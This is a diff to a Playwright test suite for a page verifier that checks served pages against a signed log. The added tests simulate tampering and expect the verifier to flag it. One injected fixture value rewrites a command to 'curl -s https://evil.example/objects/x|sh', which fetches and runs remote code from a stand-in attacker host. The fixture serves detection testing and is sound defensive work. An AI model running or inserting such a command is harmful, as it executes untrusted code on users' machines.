@@ -61,8 +61,8 @@ test("a page is verified from its bytes to the signed head, which the browser re
   const [old] = await view.records();
   const at = await verify(page, `${server.url}/at/${old?.snapshot}/object/notes/a.md/`);
   expect(at.verdict).toBe("Verified: this page is a file of snapshot 1, which the log has.");
-  for (const made of ["/snapshots/", "/search/?q=note", "/object/notes/a.md/?lines=1-1"])
-    expect((await verify(page, server.url + made)).verdict).toContain("The log and the snapshot hold.");
+  for (const made of ["/snapshots/", "/object/notes/a.md/?lines=1-1"])
+    expect((await verify(page, server.url + made)).verdict, made).toContain("The log and the snapshot hold.");
 });
 
 test("the script is loaded when it is asked for, and is small", async ({ page }) => {
@@ -120,7 +120,7 @@ test("whatever is exchanged, the step that does not hold is named", async ({ pag
   for (const [told, said] of lies) {
     lie = told;
     const { verdict } = await verify(page, server.url + PATH);
-    expect(verdict).toMatch(/^Not verified/);
+    expect(verdict, said).toMatch(/^Not verified/);
     expect(verdict).toContain(said);
   }
 });
@@ -147,5 +147,67 @@ test("an export verifies its pages, too, also where it leads to objects under an
     for (const path of ["/", "/claims/", "/object/notes/a.md/", "/object/notes/shown.md/", "/registry/CUB-0001/"])
       expect((await verify(page, host.url.replace(/\/$/, "") + path)).verdict).toContain("Verified: this page is a file of snapshot 3");
     await host.close();
+  }
+});
+
+test("nothing is cut out before it is compared: a link or a command that leads elsewhere is told, on a server as on a host of files", async ({
+  page,
+}) => {
+  const PATH = "/object/notes/shown.md/";
+  const session = await page.context().newCDPSession(page);
+  await session.send("Network.enable");
+  await session.send("Network.setCacheDisabled", { cacheDisabled: true });
+  const edit =
+    (from: RegExp, to: string): Lie =>
+    (path, bytes) => {
+      if (path !== PATH) return bytes;
+      const edited = Buffer.from(bytes.toString().replace(from, to));
+      expect(edited.equals(bytes), String(from)).toBe(false);
+      return edited;
+    };
+  const lies: readonly Lie[] = [
+    edit(/curl -s [^"<]*?\/objects\/[^\s"<]*/, "curl -s https://evil.example/objects/x|sh;:"),
+    edit(/href="[^"]*\/objects\/[^"]*"/, 'href="https://evil.example/objects/notes/shown.md"'),
+    edit(/src="[^"]*\/objects\/[^"]*"/, `src="data:image/svg+xml;base64,${Buffer.from("<svg/>").toString("base64")}"`),
+    edit(/(href="[^"]*\/objects\/notes\/)shown\.md"/, '$1a.md"'),
+    edit(/(href="[^"]*\/objects\/notes\/shown\.md)"/, '$1.txt.txt"'),
+    edit(/<\/main>/, '<a href="https://evil.example/objects/more">more</a></main>'),
+  ];
+  for (const [at, told] of lies.entries()) {
+    lie = told;
+    expect((await verify(page, server.url + PATH)).verdict, `lie ${at}`).toMatch(/^Not verified, at step 5: the bytes of this page/);
+  }
+});
+
+test("the page that was opened is the one spoken of, also when a newer snapshot is served by now", async ({ page }) => {
+  const session = await page.context().newCDPSession(page);
+  await session.send("Network.enable");
+  await session.send("Network.setCacheDisabled", { cacheDisabled: true });
+  await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+  await page.goto(`${server.url}/object/notes/a.md/`);
+  const opened = (await view.records()).at(-1);
+  await library.write({ "library/notes/a.md": "# A note\n\nWith other words.\n" });
+  await library.publish();
+  await view.refresh();
+  await page.getByRole("button", { name: "copy permanent link" }).click();
+  await expect(page.getByText("copied")).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(`${server.url}/at/${opened?.snapshot}/object/notes/a.md/`);
+  await page.getByRole("button", { name: "Verify this page" }).click();
+  await expect(page.locator("[data-verified]")).toHaveCount(1);
+  expect(await page.locator("[data-verify] p").innerText()).toMatch(/^Not verified, at step 1: this page has changed since it was opened/);
+  const kept = await verify(page, `${server.url}/at/${opened?.snapshot}/object/notes/a.md/`);
+  expect(kept.verdict).toContain(`a file of snapshot ${opened?.sequence},`);
+});
+
+test("a storage that is full, or forbidden, costs the memory of the head alone, and the page says so", async ({ page }) => {
+  for (const forbid of ["setItem", "getItem"] as const) {
+    await page.addInitScript((name) => {
+      Storage.prototype[name] = () => {
+        throw new DOMException("exceeded the quota", "QuotaExceededError");
+      };
+    }, forbid);
+    const { verdict, steps } = await verify(page, `${server.url}/claims/`);
+    expect(verdict).toMatch(/^Verified/);
+    expect(steps.join("\n")).toContain("This browser could not keep that head");
   }
 });
